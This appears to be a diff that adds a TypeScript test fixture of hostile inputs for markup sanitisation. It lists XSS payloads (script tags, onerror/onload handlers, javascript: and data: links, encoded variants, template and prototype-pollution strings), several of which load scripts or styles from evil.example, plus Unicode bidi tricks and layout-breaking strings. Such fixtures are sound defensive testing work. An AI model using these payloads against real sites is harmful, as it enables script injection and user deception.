@@ -1,0 +1,47 @@
+const pwn = 'window.pwned=1';
+
+/** Texts that would run in a browser, load from elsewhere, lead astray or break the layout, were they taken for markup. */
+export const scripts: string[] = [
+  `<script>${pwn}</script>`,
+  `</script><script>${pwn}</script>`,
+  `</textarea></select></title><script src="https://evil.example/x.js"></script>`,
+  `<img src=x onerror="${pwn}">`,
+  `<svg onload="${pwn}"><animate onbegin="${pwn}" attributeName=x dur=1s></svg>`,
+  `<svg><script href="https://evil.example/x.js"/></svg><math><mtext><style><img src=x onerror=${pwn}></style>`,
+  `<details open ontoggle="${pwn}"><video src=x onerror="${pwn}"><audio autoplay src="https://evil.example/a.ogg">`,
+  `<iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
+  `<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">`,
+  `<base href="https://evil.example/"><form action="https://evil.example"><button formaction="javascript:${pwn}">x</button></form>`,
+  `<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/b.png);display:none}</style>`,
+  `" autofocus onfocus="${pwn}" x="`,
+  `' style='background:url(https://evil.example/c.png);position:fixed;inset:0' onmouseover='${pwn}`,
+  `javascript:${pwn}`,
+  `[AWS console](javascript:${pwn})`,
+  `[AWS console](JaVaScRiPt&#58;${pwn})`,
+  `[x](java\nscript:${pwn}) [x](\u0001javascript:${pwn}) [x](vbscript:${pwn})`,
+  `[x](data:text/html;base64,${Buffer.from(`<script>${pwn}</script>`).toString('base64')})`,
+  `![x](javascript:${pwn}) ![x](data:image/svg+xml,<svg onload="${pwn}">) ![x](//evil.example/p.png)`,
+  `![x][r]\n\n[r]: https://evil.example/r.png\n\n<https://evil.example/auto> <javascript:${pwn}>`,
+  `<javascript:${pwn}|AWS console> <data:text/html,x|report> <vbscript:x|y>`,
+  `&lt;script&gt;${pwn}&lt;/script&gt; &#60;img src=x onerror=${pwn}&#62; &#x3c;svg onload=${pwn}&#x3e;`,
+  `\\u003cscript\\u003e${pwn}\\u003c/script\\u003e %3Cscript%3E${pwn}%3C/script%3E`,
+  `\`\`\`html\n<script>${pwn}</script>\n\`\`\`\n<img src=x onerror=${pwn}>`,
+  `{{constructor.constructor('${pwn}')()}} \${${pwn}} <%= ${pwn} %> #{${pwn}}`,
+  '__proto__',
+  'constructor',
+  '<@__proto__> <#constructor> <!toString> <@U0DANA|\u202egnahc>',
+  '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}',
+  'admin\u202egnp.exe\u202c \u2066\u2067right\u2069 \u200f\u200emixed',
+  '\u200b\u200c\u200d\ufeff\u2060zero\u00adwidth\u180e \u{e0001}\u{e0041}tags',
+  'Z\u0351\u036b\u0343\u036a\u0302\u036b'.padEnd(400, '\u036b'),
+  '\u0000\u0007\u001b[31mred\u001b[0m\u0008\u007f\u009b',
+  '\ud800 half a letter \udc00',
+  'ab'.repeat(2000),
+  '가나'.repeat(2000),
+  '\n'.repeat(400),
+  `| ${'x'.repeat(3000)} | b |\n|---|---|\n| ${'<b>'.repeat(500)} | c |`,
+  `${'> '.repeat(200)}deep ${'- '.repeat(200)}deeper ${'['.repeat(500)}${'*'.repeat(999)}`,
+];
+
+/** A value as long as a whole log file. */
+export const longest: string[] = ['x'.repeat(100_000), `<b onclick="${pwn}">${'y '.repeat(50_000)}`];
